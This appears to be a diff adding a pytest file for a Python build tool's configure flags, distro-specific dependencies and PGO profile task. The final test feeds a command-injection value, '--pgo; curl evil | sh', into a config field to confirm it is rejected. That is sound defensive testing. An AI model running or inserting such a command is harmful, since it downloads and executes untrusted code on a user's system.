@@ -1,0 +1,77 @@
+import copy
+
+import pytest
+
+from tasks.build.flags import build_deps, configure_args
+from tasks.model import config
+from tasks.model.versions import Version
+
+COMMON = ["--enable-option-checking=fatal", "--enable-loadable-sqlite-extensions", "--with-system-expat",
+          "--with-dtrace", "DFLAGS="]
+
+
+def settings_for(config_data, **variables):
+    return config.apply_overrides(config.parse(config_data), variables)
+
+
+@pytest.mark.parametrize("fast, variant, expected_tail", [
+    ("false", "default", ["--enable-optimizations", "--with-lto"]),
+    ("false", "freethreaded", ["--enable-optimizations", "--with-lto", "--disable-gil", "--with-ensurepip=no"]),
+    ("true", "default", ["--disable-test-modules"]),
+    ("true", "freethreaded", ["--disable-test-modules", "--disable-gil", "--with-ensurepip=no"]),
+])
+def test_optimized_fast_default_freethreaded(config_data, fast, variant, expected_tail):
+    settings = settings_for(config_data, FAST_BUILD=fast)
+    trixie = settings.all_distros["trixie"]
+    args = configure_args(settings, trixie, Version.parse("3.14.2"), variant)
+    assert list(args) == COMMON + expected_tail + ["--prefix=/opt/python/python3.14"]
+
+
+def test_distro_tweaks_bookworm(config_data):
+    settings = settings_for(config_data)
+    bookworm = settings.all_distros["bookworm"]
+    args = configure_args(settings, bookworm, Version.parse("3.13.15"), "default")
+    assert args[-2:] == ("--without-system-libmpdec", "--prefix=/opt/python/python3.13")
+    assert "libmpdec-dev" not in build_deps(settings, bookworm)
+    assert "libmpdec-dev" in build_deps(settings, settings.all_distros["trixie"])
+
+
+def test_drop_configure_removes_a_flag_from_any_list(config_data):
+    data = copy.deepcopy(config_data)
+    data["distros"]["trixie"]["drop_configure"] = ["--with-dtrace", "--with-lto"]
+    data["distros"]["trixie"]["add_build_deps"] = ["libb2-dev"]
+    settings = settings_for(data)
+    trixie = settings.all_distros["trixie"]
+    args = configure_args(settings, trixie, Version.parse("3.13.15"), "freethreaded")
+    assert "--with-dtrace" not in args and "--with-lto" not in args and "--disable-gil" in args
+    assert build_deps(settings, trixie)[-1] == "libb2-dev"
+
+
+def test_prefix_template(config_data):
+    data = copy.deepcopy(config_data)
+    data["package"]["prefix"] = "/usr/local/py/{major_minor}/x"
+    settings = settings_for(data)
+    args = configure_args(settings, settings.all_distros["trixie"], Version.parse("3.15.0rc1"), "default")
+    assert args[-1] == "--prefix=/usr/local/py/3.15/x"
+
+
+def test_required_build_deps_present(config_data):
+    deps = build_deps(settings_for(config_data), settings_for(config_data).all_distros["trixie"])
+    for package in ("libssl-dev", "tk-dev", "libexpat1-dev", "systemtap-sdt-dev", "libmpdec-dev",
+                    "debhelper", "dpkg-dev", "ccache", "libzstd-dev", "uuid-dev"):
+        assert package in deps
+
+
+def test_profile_task_only_for_optimized_builds(config_data, root):
+    from tasks.model.plan import Build, Layout
+    for fast, expected in (("false", "-m test --pgo -j0"), ("true", "")):
+        settings = settings_for(config_data, FAST_BUILD=fast, PYTHON_VERSION="3.13.15")
+        build = Build(settings.versions[0], settings.distros[0], settings, Layout.for_root(root))
+        assert build.profile_task == expected
+
+
+def test_profile_task_rejects_shell_syntax(config_data):
+    data = copy.deepcopy(config_data)
+    data["flags"]["profile_task"] = "-m test --pgo; curl evil | sh"
+    with pytest.raises(config.UserError, match="flags.profile_task"):
+        settings_for(data)
